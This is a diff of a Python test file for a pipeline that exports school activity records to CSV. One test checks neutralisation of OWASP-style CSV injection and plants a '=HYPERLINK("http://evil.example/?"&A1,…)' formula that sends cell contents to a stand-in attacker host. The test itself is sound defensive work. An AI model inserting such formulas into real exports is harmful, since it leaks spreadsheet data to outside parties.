@@ -102,7 +102,7 @@ def test_numbers_agree_with_the_projection(data: PublicData, downloads: dict[str
         assert sum(r["met"] for r in rows) == term.total.met
     carriers = {r["carrier"]: r["records"] for r in doc["activities_by_carrier"]}
     assert carriers == {c.carrier: c.records for c in term.carriers}
-    assert (sum(carriers.values()), term.records) == (8, 9)  # the one restricted record: in the total only
+    assert (sum(carriers.values()), term.records) == (9, 10)  # the one restricted record: in the total only
     (problems,) = doc["problems"]
     assert (problems["raised"], problems["resolved"], problems["open"]) == (
         term.problems.raised, term.problems.resolved, term.problems.open)
@@ -149,14 +149,14 @@ def test_suppressed_totals_are_empty_not_zero(tmp_path: Path) -> None:
 
 def test_cells_that_spreadsheets_would_run_are_neutralised(tmp_path: Path) -> None:
     """OWASP CSV injection: a summary =HYPERLINK(…) or a term named =1+2 is text in Excel too."""
-    from helpers import MINI
+    from helpers import MINI, reviewed
 
     calendar = (MINI / "rosters/calendar.yml").read_text(encoding="utf-8").replace("name: 2024—2025学年第一学期", "name: '=1+2'")
     summary = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
     record = (MINI / "records/2024-2025-1/wang-jianguo/2024-10-16-canteen-meal.md").read_text(encoding="utf-8")
     record = record.replace("summary: 与护理2024级1班同学共进午餐。", f"summary: '{summary}'")
-    repo = write_repo(tmp_path / "repo", {"rosters/calendar.yml": calendar,
-                                          "records/2024-2025-1/wang-jianguo/2024-10-16-canteen-meal.md": record})
+    repo = write_repo(tmp_path / "repo", reviewed({"rosters/calendar.yml": calendar,
+                                                   "records/2024-2025-1/wang-jianguo/2024-10-16-canteen-meal.md": record}))
     out = files(project(pipeline.run(repo, AS_OF, use_git=False)))
     cells = [cell for table in TABLES for row in csv.reader(io.StringIO(out[table.file].decode("utf-8-sig")))
              for cell in row]
